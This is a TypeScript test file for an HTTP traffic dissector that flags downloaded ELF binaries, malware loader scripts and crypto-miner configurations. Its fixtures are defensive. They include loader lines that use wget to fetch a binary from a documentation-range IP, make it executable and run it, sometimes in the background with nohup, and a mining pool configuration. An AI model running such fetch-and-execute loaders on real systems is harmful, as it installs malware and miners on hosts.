import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { talks } from '../../../test/mining-talks.ts'
import { rowsOfTalk, type Said } from '../../../test/wire.ts'
import { http } from '../dissectors/http.ts'

const answer = (type: string, body: string): string =>
  `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`
const carved = (body: string, type = 'application/octet-stream') =>
  rowsOfTalk(
    [http],
    [
      [0, 'GET /x HTTP/1.1\r\nHost: 203.0.113.5:8000\r\nUser-Agent: Wget/1\r\n\r\n'],
      ...(answer(type, body).match(/.{1,1400}/gs) ?? []).map((piece): Said => [1, piece]),
    ],
  ).downloads?.map(({ kind, url, agent, whole, miner }) => [kind, url, agent, whole, miner.length > 0])
const config = '{"donate-level": 1, "pools": [{"url": "stratum+tcp://pool.example.org:3333", "algo": "rx/0"}]}'

test('programs, scripts and miners’ configurations, whatever they call themselves', () => {
  const from = ['http://203.0.113.5:8000/x', 'Wget/1', true]
  assert.deepEqual(carved(`\x7fELF\x02\x01\x01${'x'.repeat(600)}`), [['elf', ...from, false]])
  assert.deepEqual(carved('#!/bin/bash\nid\n', 'text/plain'), [['script', ...from, false]])
  assert.deepEqual(carved(config, 'application/json'), [['configuration', ...from, true]])
})

test('a loader without a first line that says so; near miss: a page, notes that quote a command, a script that fetches nothing', () => {
  const loader = 'cd /tmp || cd /var/run\nwget http://203.0.113.5/x86; chmod +x x86; ./x86 ssh\n'
  assert.deepEqual(carved(loader, 'text/plain')?.[0]?.slice(0, 1), ['script'])
  assert.deepEqual(carved(`${'# c\n'.repeat(300)}${loader}`)?.[0]?.slice(0, 1), ['script'])
  const called = 'get() { wget -q -O - $1 > $2; chmod +x $2; }\ncd /tmp\nget http://203.0.113.5/x86 k\nnohup ./k >/dev/null 2>&1 &\n'
  assert.deepEqual(carved(called)?.[0]?.slice(0, 1), ['script'])
  for (const text of [
    `<pre>${loader}</pre>`,
    'cd /opt\nwget http://10.0.0.1/app.tgz\ntar xf app.tgz\n',
    'Fetch it with wget, then read the manual.\n',
    'cd /tmp\nls -la\n',
    `${loader}${'#'.repeat(70_000)}`,
  ])
    assert.equal(carved(text, 'text/plain'), undefined)
})

test('a program that calls itself a picture, and one that is packed on its way from a place without a name', () => {
  const elf = `\x7fELF\x02\x01\x01${'x'.repeat(600)}`
  assert.equal(carved(elf, 'image/png')?.length, 1)
  const packed = gzipSync(Buffer.from(elf, 'latin1'))
  const [row] = carved(packed.toString('latin1'), 'text/plain\r\nContent-Encoding: gzip') ?? []
  assert.deepEqual(row?.slice(0, 1), ['elf'])
  const noise = Buffer.from(Array.from({ length: 150_000 }, (_, i) => (i * i * 7 + (i >> 3)) & 255))
  const large = gzipSync(Buffer.concat([Buffer.from(elf, 'latin1'), noise]), { level: 0 })
  const [cut] = carved(large.toString('latin1'), 'text/plain\r\nContent-Encoding: gzip') ?? []
  assert.deepEqual([cut?.[0], cut?.[3]], ['elf', false])
})

test('near miss: the example that comes with a miner, a talk of one that is quoted', () => {
  const example = config.replace('"algo"', '"user": "YOUR_WALLET_ADDRESS", "algo"')
  const quoted = talks['cryptonote']!.talk.map(([, text]) => text).join('')
  for (const body of [example, quoted]) assert.equal(carved(body, 'application/json'), undefined)
})

test('near miss: pages, JSON of other kinds, pictures', () => {
  for (const body of ['<html>', '{"ok":true}', 'Moved', '\x89PNG', 'MZ']) assert.equal(carved(body), undefined)
})

test('what is suspect has digests for looking up similar files, an ordinary program of a named place has none', () => {
  const elf = `\x7fELF\x02\x01\x01${Array.from({ length: 600 }, (_, i) => String.fromCharCode((i * i) & 255)).join('')}`
  const digests = (host: string) => {
    const request = `GET /x HTTP/1.1\r\nHost: ${host}\r\n\r\n`
    const [row] =
      rowsOfTalk(
        [http],
        [
          [0, request],
          [1, answer('application/octet-stream', elf)],
        ],
      ).downloads ?? []
    return [row?.tlsh?.slice(0, 2), row?.ssdeep?.split(':').length]
  }
  assert.deepEqual(digests('203.0.113.5'), ['T1', 3])
  assert.deepEqual(digests('deb.debian.org'), [undefined, undefined])
})
